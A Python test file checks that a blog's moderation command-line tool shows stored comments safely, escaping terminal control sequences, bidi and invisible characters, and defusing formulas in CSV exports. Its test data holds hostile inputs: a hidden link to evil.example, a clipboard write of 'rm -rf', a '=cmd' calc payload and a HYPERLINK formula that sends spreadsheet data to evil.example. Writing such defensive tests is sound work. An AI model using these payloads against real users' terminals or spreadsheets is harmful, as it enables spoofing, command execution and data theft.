"""What strangers typed, in everything that a moderator's commands print: shown in full, obeyed in nothing."""

from __future__ import annotations

import csv
import io
import json

import pytest

from blog import Blog
from builders import a_submission
from moderation.queue.connection import open_engine
from moderation.queue.schema import SUBMISSIONS
from moderation.queue.submission import Reason
from test_cli_terminal import obeyed

LINK = "\x1b]8;;https://evil.example/\x1b\\https://good.example/\x1b]8;;\x07"
SEEN = [
    pytest.param(LINK, r"\x1b]8;;https://evil.example/\x1b\https://good.example/\x1b]8;;\x07", id="hidden link target"),
    pytest.param("\x9d8;;https://evil.example/\x9cx", r"\x9d8;;https://evil.example/\x9cx", id="the same in C1"),
    pytest.param("\x1b[31mred\x1b[0m", r"\x1b[31mred\x1b[0m", id="colours"),
    pytest.param("\x1b]0;owned\x07", r"\x1b]0;owned\x07", id="title of the window"),
    pytest.param("\x1b]52;c;cm0gLXJm\x07", r"\x1b]52;c;cm0gLXJm\x07", id="into the clipboard"),
    pytest.param("\x1b[6n\x1b[c\x05", r"\x1b[6n\x1b[c\x05", id="questions the terminal answers as if typed"),
    pytest.param("\x1bP1$r\x9c", r"\x1bP1$r\x9c", id="device control"),
    pytest.param("spam\x1b[1A\x1b[2Kham", r"spam\x1b[1A\x1b[2Kham", id="over the line above"),
    pytest.param("spam\rham", r"spam\rham", id="over its own line"),
    pytest.param("spam\x08\x08ham", r"spam\x08\x08ham", id="backspace"),
    pytest.param("a\u202ecod.exe", r"a\u202ecod.exe", id="right-to-left override"),
    pytest.param("a\u2066b\u2069c\u200e\u061c", r"a\u2066b\u2069c\u200e\u061c", id="isolates and marks"),
    pytest.param("via\u200bgra\ufeff\u00ad", r"via\u200bgra\ufeff\xad", id="nothing to be seen"),
    pytest.param("a\U000e0041\U000e0042", r"a\U000e0041\U000e0042", id="invisible letters"),
    pytest.param("\x00\x7f\u2028\x85", r"\x00\x7f\u2028\x85", id="NUL, DEL and other ends of lines"),
]
TYPED = [pytest.param(case.values[0], id=case.id) for case in SEEN]
DECISIONS = ["approve", "unapprove", "spam", "unspam", "trash", "untrash", "delete", "undo"]


def overwrite(blog: Blog, *columns: str, typed: str) -> None:
    """Put the value into these columns of every row, past all checks of ours, as another program may."""
    engine = open_engine(blog.settings.database)
    with engine.begin() as connection:
        connection.execute(SUBMISSIONS.update().values(dict.fromkeys(columns, typed)))
    engine.dispose()


@pytest.fixture
def desk(site: Blog, typed: str) -> Blog:
    """A blog with one comment in its queue, and the value in each of its private fields."""
    with site.queue() as queue:
        queue.add([a_submission("k7f3q2mx", reasons=(Reason(typed, typed),))])
    overwrite(site, "email", "ip", "client", "user_agent", "referrer", "trap", typed=typed)
    return site


def printed(desk: Blog, *command: str) -> str:
    """All that the command prints."""
    result = desk.moderate(*command)
    assert result.exit_code == 0, result.output
    return result.stdout + result.stderr


@pytest.mark.parametrize(("typed", "seen"), SEEN)
def test_a_person_sees_what_it_is_made_of(desk: Blog, seen: str) -> None:
    shown = printed(desk, "get", "k7")

    assert (f"E-mail:      {seen}" in shown, f"Address:     {seen}" in shown) == (True, True)
    assert f"Because:     {seen}" in shown
    assert obeyed(shown) == set()


@pytest.mark.parametrize("typed", TYPED)
def test_no_decision_prints_anything_that_a_terminal_obeys(desk: Blog, typed: str) -> None:
    said = [printed(desk, decision, "k7", "--reason", typed) for decision in DECISIONS]
    said += [printed(desk, *command) for command in (["list", "--status", "all"], ["count"], ["status"], ["publish"])]

    assert obeyed("".join(said)) == set()


@pytest.mark.parametrize("typed", TYPED)
@pytest.mark.parametrize("command", [["list", "--format", "json"], ["get", "k7", "--format", "json"]], ids=" ".join)
def test_json_holds_what_was_typed_and_is_written_in_ascii(desk: Blog, typed: str, command: list[str]) -> None:
    """So changes of direction are escaped, too: JSON leaves the choice (RFC 8259, section 7), terminals do not."""
    shown = printed(desk, *command)

    read = json.loads(shown)
    record = read[0] if isinstance(read, list) else read
    assert (record["email"], record["reasons"][0]["saw"]) == (typed, typed)
    assert shown.isascii()
    assert obeyed(shown) == set()


@pytest.mark.parametrize(("typed", "seen"), SEEN)
def test_csv_shows_what_it_is_made_of(desk: Blog, seen: str) -> None:
    (row,) = csv.DictReader(io.StringIO(printed(desk, "list", "--format", "csv")))

    assert row["email"] == seen


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        "I agree;=1+1",
        'I agree;"=1+1"',
        "I agree; =1+1;+1;-1;@A1",
        "I agree.\n=1+1",
        "I agree.\n\n=1+1",
        'I agree.\n"=1+1',
        "I agree.;\n\t=1+1",
        '"\n=1+1;"',
        "\uff1d1+1;\uff0b1",
        "=cmd|' /C calc'!A1",
        '";=HYPERLINK("https://evil.example/?"&A1;"Ann")',
    ],
    ids=repr,
)
@pytest.mark.parametrize("separator", [pytest.param(",", id="comma"), pytest.param(";", id="semicolon")])
def test_no_spreadsheet_finds_a_formula_in_csv(site: Blog, typed: str, separator: str) -> None:
    with site.queue() as queue:
        queue.add([a_submission(author=" ".join(typed.split()), text=typed)])

    rows = csv.reader(io.StringIO(printed(site, "list", "--format", "csv")), delimiter=separator)

    cells = [cell.strip(' \t\n"') for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b"))] == []


@pytest.mark.parametrize("typed", TYPED)
@pytest.mark.parametrize("column", ["author", "text", "website", "parent"])
def test_not_even_what_no_comment_can_hold_is_obeyed(site: Blog, typed: str, column: str) -> None:
    """A row that is no comment is an error, told in one line."""
    with site.queue() as queue:
        queue.add([a_submission("k7f3q2mx")])
    overwrite(site, column, typed=typed)

    results = [site.moderate(*command) for command in (["list"], ["get", "k7"], ["approve", "k7"], ["status"])]

    assert obeyed("".join(result.stdout + result.stderr for result in results)) == set()
    assert [result.stderr for result in results if result.exit_code and result.stderr.count("\n") != 1] == []
